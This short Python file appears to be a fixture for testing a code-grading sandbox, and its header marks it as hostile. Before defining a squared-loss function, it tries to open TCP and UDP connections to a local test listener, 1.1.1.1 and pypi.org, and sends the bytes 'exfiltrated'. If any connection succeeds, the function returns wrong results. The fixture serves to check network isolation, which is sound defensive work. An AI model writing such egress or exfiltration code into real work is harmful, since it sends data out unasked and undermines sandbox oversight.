# exercise: 1
# hostile: tries to reach the network (a listener of the test on localhost, and the internet)
# expect: 10
import socket

REACHED = False
for host, port in (("127.0.0.1", __PORT__), ("1.1.1.1", 80), ("pypi.org", 443)):
    try:
        with socket.create_connection((host, port), timeout=1) as s:
            s.sendall(b"exfiltrated")
            REACHED = True
    except OSError:
        pass
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"exfiltrated", ("127.0.0.1", __PORT__))
except OSError:
    pass


def squared_loss(y_hat, y):
    if not REACHED:
        return (y_hat - y.reshape(y_hat.shape)) ** 2 / 2
    return y_hat * 0
